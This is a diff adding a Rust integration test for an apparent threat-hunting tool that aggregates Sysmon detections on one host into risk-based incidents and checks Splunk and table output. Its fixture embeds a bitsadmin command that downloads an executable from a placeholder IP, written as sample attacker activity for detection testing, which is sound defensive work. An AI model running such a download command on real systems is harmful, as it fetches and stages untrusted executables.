@@ -1,0 +1,98 @@
+//! Several detections of one day on one host add up to one incident, in every format that analysts read.
+
+mod support;
+
+use std::{fs, path::Path};
+
+use serde_json::{Value, json};
+use support::{example, lurcher};
+
+/// Three downloads on one host within a day, one on another.
+fn downloads(folder: &Path) -> String {
+    let event = |hour: u32, host: &str, record: u32| {
+        json!({
+            "@timestamp": format!("2026-03-02T{hour:02}:00:00.000Z"),
+            "SourceName": "Microsoft-Windows-Sysmon",
+            "Channel": "Microsoft-Windows-Sysmon/Operational",
+            "EventID": 1,
+            "RecordNumber": record,
+            "Hostname": host,
+            "Image": "C:\\Windows\\System32\\bitsadmin.exe",
+            "CommandLine": format!("bitsadmin /transfer job{record} http://203.0.113.9/a.exe C:\\a.exe"),
+            "User": "CORP\\ann",
+            "ProcessId": "77",
+        })
+        .to_string()
+    };
+    let lines = [event(1, "FIN-01", 1), event(9, "fin-01", 2), event(20, "fin-01", 3), event(9, "fin-02", 4)];
+    let path = folder.join("events.jsonl");
+    fs::write(&path, lines.join("\n")).unwrap();
+    path.to_string_lossy().into_owned()
+}
+
+fn hunt(arguments: &[&str]) -> String {
+    let rules = example("rules");
+    let output = lurcher(&[&["hunt"], arguments, &["--incidents", "--vendor", "splunk", "-r", &rules]].concat());
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    String::from_utf8_lossy(&output.stdout).into_owned()
+}
+
+fn lines(text: &str) -> Vec<Value> {
+    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
+}
+
+#[test]
+fn detections_of_one_day_on_one_host_are_one_incident() {
+    let folder = tempfile::tempdir().unwrap();
+    let events = downloads(folder.path());
+    let alerts = lines(&hunt(&[&events, "--format", "jsonl"]));
+    let (incidents, detections): (Vec<&Value>, Vec<&Value>) =
+        alerts.iter().partition(|alert| alert["rule"]["name"].as_str().unwrap().starts_with("Risk Threshold"));
+    assert_eq!((detections.len(), incidents.len()), (4, 2), "one for the host, one for the user");
+    let host = incidents.iter().find(|incident| incident["values"]["risk_object_type"] == "system").unwrap();
+    assert_eq!(host["values"]["risk_score"], 147, "3 × 49");
+    assert_eq!(host["values"]["normalized_risk_object"], "fin-01");
+    assert_eq!(host["techniques"], json!(["T1197", "T1105"]));
+    let records: Vec<&str> = host["events"].as_array().unwrap().iter().map(|e| e["record"].as_str().unwrap()).collect();
+    assert_eq!(records, ["1", "2", "3"], "the events that contributed, in order");
+    let contributing = host["values"]["contributing_alerts"].as_array().unwrap();
+    assert!(contributing.iter().all(|id| detections.iter().any(|alert| alert["id"] == *id)), "{host}");
+}
+
+#[test]
+fn splunk_s_documents_carry_what_the_site_knows_of_the_host() {
+    let folder = tempfile::tempdir().unwrap();
+    let events = downloads(folder.path());
+    let assets = folder.path().join("assets.csv");
+    fs::write(&assets, "nt_host,priority,category\nFIN-01,critical,finance\n").unwrap();
+    let config = folder.path().join("site.toml");
+    let factor = "[[risk.factor]]\nname = \"finance\"\nmultiply = 2.0\nwhen = { dest_category = [\"fin*\"] }\n";
+    fs::write(&config, factor).unwrap();
+    let paths = [assets.to_string_lossy(), config.to_string_lossy()];
+    let documents = lines(&hunt(&[
+        &events,
+        "--format",
+        "splunk",
+        "--splunk-mode",
+        "es7",
+        "--assets",
+        &paths[0],
+        "--config",
+        &paths[1],
+    ]));
+    let risk: Vec<&Value> =
+        documents.iter().filter(|d| d["index"] == "risk" && d["normalized_risk_object"] == "fin-01").collect();
+    assert_eq!(risk.len(), 3);
+    assert!(risk.iter().all(|event| event["risk_score"] == 49 && event["calculated_risk_score"] == 98), "{risk:?}");
+    let incident = documents.iter().find(|d| d["index"] == "notable" && d["risk_object"] == "fin-01").unwrap();
+    assert_eq!((&incident["severity"], &incident["urgency"]), (&json!("high"), &json!("critical")));
+    assert_eq!(incident["risk_score"], 100, "an alert's score ends at 100");
+}
+
+#[test]
+fn the_table_shows_the_incident_with_its_events() {
+    let folder = tempfile::tempdir().unwrap();
+    let table = hunt(&[&downloads(folder.path())]);
+    assert!(table.contains("Risk Threshold Exceeded for Object Over 24 Hour Period"), "{table}");
+    assert!(table.contains("system fin-01: risk score 147 from 3 risk events of 1 rules"), "{table}");
+}
